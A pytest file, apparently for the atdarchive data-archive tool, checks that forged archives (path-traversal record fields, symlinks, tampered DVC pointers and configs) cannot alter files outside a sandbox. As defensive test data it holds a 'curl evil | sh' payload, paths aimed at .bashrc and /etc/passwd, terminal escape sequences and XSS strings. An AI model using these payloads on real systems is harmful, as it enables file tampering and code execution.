"""Opening someone else's archive is safe (DESIGN.md §15).

Each test builds a hostile archive the way its author could — records whose ids,
hash chain and commit trailers are all consistent — clones it as a researcher
would, runs the README's commands, and checks that nothing outside the sandbox
was created, changed or deleted, and that every command answers with a line,
never a traceback (the in-process CLI lets any unexpected exception fail the test).
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
from pathlib import Path

import pytest
from conftest import write_csv

from atdarchive import Archive
from atdarchive.ledger import GENESIS
from atdarchive.util import canonical_json, sha256_bytes

DS = "ds"


# -- the world around the sandbox --------------------------------------------------------
def tree_state(base: Path, skip: tuple[Path, ...] = ()) -> dict[str, str]:
    """Every path below BASE with what it is: a hash of a file, a link's target, 'dir'."""
    state: dict[str, str] = {}
    for dirpath, dirnames, filenames in os.walk(base, followlinks=False):
        here = Path(dirpath)
        dirnames[:] = [d for d in dirnames if here / d not in skip]
        for name in dirnames + filenames:
            path = here / name
            rel = str(path.relative_to(base))
            if path.is_symlink():
                state[rel] = "link:" + os.readlink(path)
            elif path.is_dir():
                state[rel] = "dir"
            else:
                state[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return state


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """tmp_path/victim holds the user's files; the sandbox is where the clone goes."""
    victim = tmp_path / "victim"
    (victim / "dir").mkdir(parents=True)
    (victim / ".bashrc").write_text("alias ls='ls --color'\n")
    (victim / "notes.txt").write_text("line one\nline two\n")
    (victim / "dir" / "keep.json").write_text('{"keep": true}\n')
    sandbox = tmp_path / "sandbox"
    sandbox.mkdir()
    monkeypatch.setenv("XDG_CACHE_HOME", str(sandbox / "cache"))
    return victim, sandbox


def outside(tmp_path: Path, sandbox: Path) -> dict[str, str]:
    return tree_state(tmp_path, skip=(sandbox,))


# -- forging: what an author can write -------------------------------------------------
def author_archive(tmp_path: Path, rows: int = 2) -> Archive:
    author = Archive.init(tmp_path / "author")
    author.add_dataset(DS, title="Hostile", agency="Nobody")
    author.commit(DS, write_csv(tmp_path / "a.csv", [{"k": i, "v": i * 10} for i in range(rows)]),
                  published="2024-01-01")
    return author


def pushed_author(tmp_path: Path) -> tuple[Archive, Path]:
    """The author's archive with its data pushed to a directory remote beside it."""
    author = author_archive(tmp_path)
    store = tmp_path / "remote-store"
    author.add_remote("shared", str(store), default=True)
    author.push(DS)
    return author, store


def pull_refused(tmp_path: Path, sandbox: Path, author: Archive, cli, why: str) -> Path:
    """Clone AUTHOR, confirm its remote, and check that `pull` refuses (WHY) and touches
    nothing outside the sandbox; returns the clone."""
    root = clone(author, sandbox)
    cli("-C", root, "remote", "confirm", "shared")
    before = outside(tmp_path, sandbox)
    result = cli("-C", root, "pull", DS)
    no_traceback(result)
    assert result.code != 0 and why in result.err, result.err
    assert outside(tmp_path, sandbox) == before
    return root


def forged_line(events: list[dict], event: dict) -> bytes:
    """EVENT as the next line of a ledger holding EVENTS: chain and sequence consistent."""
    prev = sha256_bytes(canonical_json(events[-1]).encode()) if events else GENESIS
    return canonical_json({**event, "prev": prev, "seq": len(events) + 1}).encode() + b"\n"


def with_id(record: dict) -> dict:
    body = {k: v for k, v in record.items() if k != "id"}
    return {**body, "id": sha256_bytes(canonical_json(body).encode())}


def append_forged(author: Archive, event: dict | bytes, dataset: str = DS,
                  message: str = "ds: snapshot") -> None:
    """Append a line (an event, or raw bytes) to the author's ledger and commit it with the
    trailers a real commit carries."""
    ledger = author.ledger(dataset).path
    events = [json.loads(line) for line in ledger.read_bytes().splitlines() if line]
    line = event if isinstance(event, bytes) else forged_line(events, event)
    with open(ledger, "ab") as fh:
        fh.write(line)
    head = sha256_bytes(line.rstrip(b"\n"))
    git(author.root, "add", "-f", str(ledger))
    git(author.root, "commit", "-q", "-m", f"{message}\n\natdarchive-ledger-head: {head}")


def first_record(author: Archive) -> dict:
    return author.history(DS).entries[0].record


def git(root: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(root), *args], check=True, capture_output=True,
                          text=True).stdout


def clone(author: Archive, sandbox: Path) -> Path:
    target = sandbox / "clone"
    subprocess.run(["git", "clone", "-q", str(author.root), str(target)], check=True)
    return target


def no_traceback(result) -> None:
    assert "Traceback" not in result.err and "Traceback" not in result.out
    assert len(result.err.strip().splitlines()) <= 12, result.err


READ_COMMANDS = (
    ("log", DS), ("log", DS, "--json"), ("log", "--oneline"), ("show", f"{DS}@latest"),
    ("tags",), ("audit", DS), ("audit", DS, "--json"), ("blame", f"{DS}@latest"),
    ("verify", DS), ("verify", "--json"), ("dataset", "list"),
)


def run_everything(cli, root: Path, extra: tuple[tuple[str, ...], ...] = ()) -> dict:
    """Every read command (and EXTRA) on the archive at ROOT: none may print a traceback."""
    out = {}
    for args in READ_COMMANDS + extra:
        result = cli("-C", root, *args)
        no_traceback(result)
        out[args] = result
    return out


# -- records, names and paths ------------------------------------------------------------
@pytest.mark.parametrize("mutate, what", [
    (lambda r: {**r, "id": "../../../../victim/pwn"}, "id"),
    (lambda r: {**r, "channel": "../../../victim"}, "channel"),
    (lambda r: {**r, "tables": {"../../../../victim/x": next(iter(r["tables"].values()))}},
     "table"),
    (lambda r: {**r, "files": {**r["files"], "../../../victim/.bashrc": next(iter(
        r["files"].values()))}}, "files"),
    (lambda r: {**r, "original": {**r["original"], "file": "/etc/passwd"}}, "original"),
    (lambda r: {**r, "published": 20240102}, "published"),
    (lambda r: {k: v for k, v in r.items() if k != "published"}, "published missing"),
])
def test_hostile_records_are_skipped_and_reported(tmp_path, world, cli, mutate, what) -> None:
    victim, sandbox = world
    author = author_archive(tmp_path)
    record = mutate({**first_record(author), "published": "2024-02-01"})
    if what != "id":
        record = with_id(record)
    append_forged(author, {"type": "snapshot", "record": record})
    root = clone(author, sandbox)
    before = outside(tmp_path, sandbox)
    results = run_everything(cli, root, extra=(("reindex",), ("verify", "--repair", DS),
                                               ("history", DS, "--table", "a", "--row", "k=1")))
    assert outside(tmp_path, sandbox) == before
    verify = results[("verify", DS)]
    assert verify.code != 0 and "line 2" in verify.err + verify.out
    log = json.loads(results[("log", DS, "--json")].out)
    assert len(log) == 1  # the hostile record is not in any history view
    assert "skipped 1 ledger line" in results[("log", DS)].err


@pytest.mark.parametrize("line", [
    b"[]\n",
    None,  # {"type": "snapshot", "record": null}
    b"{" * 100_000 + b"}" * 100_000 + b"\n",
    b'{"type": "tag", "name": "v1", "target": "' + b"a" * 64 + b'", "seq": 2}\n',
    b"not json at all\n",
])
def test_malformed_ledger_lines_give_lines_not_tracebacks(tmp_path, world, cli, line) -> None:
    victim, sandbox = world
    author = author_archive(tmp_path)
    append_forged(author, line if line is not None else {"type": "snapshot", "record": None})
    root = clone(author, sandbox)
    before = outside(tmp_path, sandbox)
    results = run_everything(cli, root)
    assert outside(tmp_path, sandbox) == before
    assert results[("verify", DS)].code != 0
    assert results[("log", DS)].code == 0  # the rest of the history still reads


def test_tag_naming_no_snapshot_is_not_trusted(tmp_path, world, cli) -> None:
    _, sandbox = world
    author = author_archive(tmp_path)
    append_forged(author, {"type": "tag", "name": "paper", "target": "b" * 64,
                           "tagged_at": "2024-01-02T00:00:00Z", "archivist": "x"})
    root = clone(author, sandbox)
    result = cli("-C", root, "show", f"{DS}@paper")
    assert result.code == 2 and "unknown ref" in result.err
    assert "tag names no snapshot" in cli("-C", root, "verify", DS).out


# -- symbolic links ---------------------------------------------------------------------
def commit_symlink(author: Archive, rel: str, target: Path) -> None:
    path = author.root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.exists() or path.is_symlink():
        subprocess.run(["rm", "-rf", str(path)], check=True)
    path.symlink_to(target)
    git(author.root, "add", "-f", rel)
    git(author.root, "commit", "-q", "-m", f"link {rel}")


def test_committed_lock_symlink_does_not_truncate_its_target(tmp_path, world, cli) -> None:
    victim, sandbox = world
    author = author_archive(tmp_path)
    commit_symlink(author, ".atdarchive/lock", victim / ".bashrc")
    root = clone(author, sandbox)
    before = outside(tmp_path, sandbox)
    result = cli("-C", root, "tag", f"{DS}@latest", "v1")
    no_traceback(result)
    assert result.code != 0 and "symbolic link" in result.err
    assert outside(tmp_path, sandbox) == before
    verify = cli("-C", root, "verify", "--json")
    assert any("symbolic link" in p["problem"] for p in json.loads(verify.out)["problems"])


def test_state_directory_symlink_is_never_written_through(tmp_path, world, cli) -> None:
    victim, sandbox = world
    author = author_archive(tmp_path)
    (victim / "dir" / "derived").mkdir()
    (victim / "dir" / "staging").mkdir()
    (victim / "dir" / "verified.json").write_text("{}")
    commit_symlink(author, ".atdarchive", victim / "dir")
    root = clone(author, sandbox)
    before = outside(tmp_path, sandbox)
    for args in (("verify", "--repair"), ("tag", f"{DS}@latest", "v1"), ("log", DS),
                 ("blame", f"{DS}@latest"), ("audit", DS)):
        no_traceback(cli("-C", root, *args))
    assert outside(tmp_path, sandbox) == before


def test_another_datasets_ledger_symlink_blocks_nothing_and_is_not_cut(tmp_path, world,
                                                                        cli) -> None:
    victim, sandbox = world
    author = author_archive(tmp_path)
    author.add_dataset("other")
    author.add_dataset("third")
    (victim / "torn.txt").write_bytes(b"complete line\ntorn tail without newline")
    commit_symlink(author, "datasets/other/ledger.jsonl", victim / "torn.txt")
    root = clone(author, sandbox)
    before = outside(tmp_path, sandbox)
    result = cli("-C", root, "commit", "third", write_csv(sandbox / "b.csv", [{"k": 9}]),
                 "--published", "2024-03-01")
    no_traceback(result)
    assert result.code == 0, result.err  # one damaged dataset does not block the others
    assert "other: not recovered" in result.err and "symbolic link" in result.err
    assert outside(tmp_path, sandbox) == before
    assert len(Archive(root).history("third").entries) == 1


def test_snapshot_directory_symlink_is_refused_by_pull(tmp_path, world, cli) -> None:
    victim, sandbox = world
    author, store = pushed_author(tmp_path)
    snapshot_id = first_record(author)["id"]
    commit_symlink(author, f"datasets/{DS}/snapshots/{snapshot_id}", victim / "dir")
    root = pull_refused(tmp_path, sandbox, author, cli, "symbolic link")
    verify = json.loads(cli("-C", root, "verify", "--json").out)
    assert any("symbolic link" in p["problem"] for p in verify["problems"])


# -- DVC pointers and listings ---------------------------------------------------------
@pytest.mark.parametrize("in_record", [True, False])
def test_dvc_listing_naming_paths_outside_is_refused_by_clone(tmp_path, world, cli,
                                                               in_record) -> None:
    """The author rewrites a snapshot's DVC directory listing (with its pointer, and the
    record too or not) to name ../../victim/.bashrc; clone --pull must not write it."""
    victim, sandbox = world
    author, store = pushed_author(tmp_path)
    record = first_record(author)
    rel = "../../../../../victim/.bashrc"
    payload = b"curl evil | sh\n"
    md5 = hashlib.md5(payload).hexdigest()
    put = store / "files" / "md5" / md5[:2] / md5[2:]
    put.parent.mkdir(parents=True, exist_ok=True)
    put.write_bytes(payload)
    listing_objects = json.loads(author.store.cache_path(
        author.store.check_pointer(DS, record["id"]) + ".dir").read_text())
    listing_objects.append({"md5": md5, "relpath": rel})
    listing = json.dumps(sorted(listing_objects, key=lambda e: e["relpath"])).encode()
    dir_md5 = hashlib.md5(listing).hexdigest()
    put = store / "files" / "md5" / dir_md5[:2] / (dir_md5[2:] + ".dir")
    put.parent.mkdir(parents=True, exist_ok=True)
    put.write_bytes(listing)
    hostile_file = {rel: {"sha256": hashlib.sha256(payload).hexdigest(), "size": len(payload)}}
    forged = with_id({**record, "published": "2024-02-01",
                      "files": {**record["files"], **(hostile_file if in_record else {})}})
    pointer = author.store.snapshots_dir(DS) / f"{forged['id']}.dvc"
    pointer.write_text(f"outs:\n- md5: {dir_md5}.dir\n  size: 1\n  nfiles: "
                       f"{len(listing_objects)}\n  hash: md5\n  path: {forged['id']}\n")
    git(author.root, "add", "-f", str(pointer))
    append_forged(author, {"type": "snapshot", "record": forged})
    before = outside(tmp_path, sandbox)
    result = cli("clone", author.root, sandbox / "clone", "--pull", DS, "--confirm-remotes")
    no_traceback(result)
    if in_record:  # the record itself is refused: only the genuine release is pulled
        assert result.code == 0, result.err
        assert "skipped 1 ledger line" in result.err
    else:  # the record is sound, its listing is not: refused before DVC checks it out
        assert result.code == 3 and "outside its snapshot" in result.err, result.err
    assert outside(tmp_path, sandbox) == before
    assert (victim / ".bashrc").read_text() == "alias ls='ls --color'\n"


def test_pointer_naming_another_path_is_refused(tmp_path, world, cli) -> None:
    victim, sandbox = world
    author, store = pushed_author(tmp_path)
    snapshot_id = first_record(author)["id"]
    pointer = author.store.pointer(DS, snapshot_id)
    pointer.write_text(pointer.read_text().replace(f"path: {snapshot_id}",
                                                   "path: ../../../../victim/dir"))
    git(author.root, "commit", "-qam", "pointer")
    pull_refused(tmp_path, sandbox, author, cli, "not a DVC directory pointer")


# -- configs ---------------------------------------------------------------------------
def test_dataset_config_naming_another_dataset_is_reported(tmp_path, world, cli) -> None:
    _, sandbox = world
    author = author_archive(tmp_path)
    author.add_dataset("clean")
    config = author.dataset_dir(DS) / "dataset.toml"
    config.write_text(config.read_text().replace(f'name = "{DS}"', 'name = "clean"'))
    original = author.store.snapshot_dir(DS, first_record(author)["id"]) / "original.csv"
    original.chmod(0o644)
    original.write_text("k,v\n0,666\n1,10\n")
    git(author.root, "commit", "-qam", "tamper")
    result = cli("-C", author.root, "verify", DS)
    assert result.code != 0
    assert "dataset.toml names dataset 'clean'" in result.out
    assert "altered" in result.out  # it checked the tampered dataset, not 'clean'


@pytest.mark.parametrize("text, problem", [
    ('extract = "abc"\n', "extract must be a table"),
    ('[keys]\nt = 5\n', "keys.t must be"),
    ('[extract.tables.t]\nsheet = "S"\nanchor = "A"\nkey = 5\n', "key must be a list"),
    ('colour = "red"\n', "unknown key 'colour'"),
])
def test_malformed_dataset_config_is_one_line(tmp_path, world, cli, text, problem) -> None:
    _, sandbox = world
    author = author_archive(tmp_path)
    config = author.dataset_dir(DS) / "dataset.toml"
    config.write_text(config.read_text().split("[keys]")[0] + text)
    for args in (("log", DS), ("verify", DS), ("dataset", "list"), ("show", f"{DS}@latest")):
        result = cli("-C", author.root, *args)
        no_traceback(result)
        assert result.code == 2 and problem in result.err, (args, result.err)
        assert "dataset.toml" in result.err


def test_duplicated_dvc_config_section_is_one_line(tmp_path, world, cli) -> None:
    author = author_archive(tmp_path)
    config = author.root / ".dvc" / "config"
    config.write_text(config.read_text() + "[core]\n    analytics = false\n")
    for args in (("log", DS), ("show", f"{DS}@latest"),
                 ("export", f"{DS}@latest", "-o", tmp_path / "out.csv")):
        no_traceback(cli("-C", author.root, *args))
    for args in (("remote", "list"), ("push",)):
        result = cli("-C", author.root, *args)
        no_traceback(result)
        assert result.code != 0 and ".dvc/config: not a valid DVC config" in result.err


def test_committed_cache_dir_outside_is_refused(tmp_path, world, cli) -> None:
    victim, sandbox = world
    author = author_archive(tmp_path)
    author.commit(DS, write_csv(tmp_path / "b.csv", [{"k": 0, "v": 1}]), published="2024-02-01")
    config = author.root / ".dvc" / "config"
    config.write_text(config.read_text().replace(
        "[cache]\n", f"[cache]\n    dir = {victim / 'dir'}\n"))
    git(author.root, "commit", "-qam", "cache elsewhere")
    root = clone(author, sandbox)
    before = outside(tmp_path, sandbox)
    for args in (("export", f"{DS}@latest", "-o", sandbox / "o.csv"), ("diff", f"{DS}@latest"),
                 ("commit", DS, write_csv(sandbox / "c.csv", [{"k": 5, "v": 5}]),
                  "--published", "2024-05-01")):
        result = cli("-C", root, *args)
        no_traceback(result)
        assert result.code != 0 and "cache.dir" in result.err, (args, result.err)
    assert outside(tmp_path, sandbox) == before


def test_directory_remote_outside_needs_confirmation(tmp_path, world, cli) -> None:
    _, sandbox = world
    author, store = pushed_author(tmp_path)
    refused = cli("clone", author.root, sandbox / "first", "--pull", DS)
    assert refused.code == 2 and "clone with --confirm-remotes" in refused.err
    assert not (sandbox / "first").exists()  # a failed clone leaves nothing half-made
    root = clone(author, sandbox)
    refused = cli("-C", root, "pull", DS)
    assert refused.code == 2 and f"atdarchive -C {root} remote confirm shared" in refused.err
    assert cli("-C", root, "remote", "confirm", "shared").code == 0
    assert cli("-C", root, "pull", DS).code == 0
    assert cli("-C", root, "verify", DS).code == 0


# -- what is shown ---------------------------------------------------------------------
HOSTILE = "\x1b]52;c;ZXZpbA==\x07\x1b[2J<script>alert(1)</script><img src=x onerror=alert(2)>"


def test_hostile_text_is_shown_escaped(tmp_path, world, cli) -> None:
    _, sandbox = world
    arc = Archive.init(sandbox / "arc")
    arc.add_dataset(DS)
    arc.commit(DS, write_csv(sandbox / "a.csv", [{"k": "a", "v": "1"}, {"k": "b", "v": "2"}]),
               published="2024-01-01", message=HOSTILE)
    arc.commit(DS, write_csv(sandbox / "b.csv", [{"k": "a", "v": HOSTILE.replace(",", ";")},
                                                 {"k": "b", "v": "2"}]),
               published="2024-02-01", message=HOSTILE)
    outputs = [cli("-C", arc.root, *args) for args in (
        ("log", DS), ("show", f"{DS}@latest"), ("blame", f"{DS}@latest", "--cells"),
        ("history", DS, "--row", "k=a"), ("diff", f"{DS}@latest"),
        ("diff", f"{DS}@latest", "--format", "markdown"), ("audit", DS))]
    for result in outputs:
        assert "\x1b" not in result.out and "\x07" not in result.out, result.out
    assert "\\x1b" in outputs[0].out  # shown, escaped
    markdown = outputs[5].out
    assert "<script>" not in markdown and "<img" not in markdown
    assert "&lt;script&gt;" in markdown
    md_report = sandbox / "audit.md"
    cli("-C", arc.root, "audit", DS, "--md", md_report)
    assert "<script>" not in md_report.read_text()


def test_colour_on_a_terminal_keeps_its_codes_and_escapes_the_data() -> None:
    """On a terminal the diff is coloured: our codes reach it, the data's do not."""
    import io

    import pyarrow as pa

    from atdarchive.diff import diff_tables
    from atdarchive.render.diff_text import print_text
    from atdarchive.render.safe import SafeStream

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    old = pa.table({"k": ["a"], "v": ["1"]})
    new = pa.table({"k": ["a"], "v": ["\x1b]52;c;ZXZpbA==\x07\x1b[2J"]})
    screen = Terminal()
    print_text(diff_tables(old, new, name="t"), SafeStream(screen))
    shown = screen.getvalue()
    assert "\x1b[" in shown  # colour codes
    assert "\x1b]52" not in shown and "\x1b[2J" not in shown and "\x07" not in shown
    assert "\\x1b]52" in shown
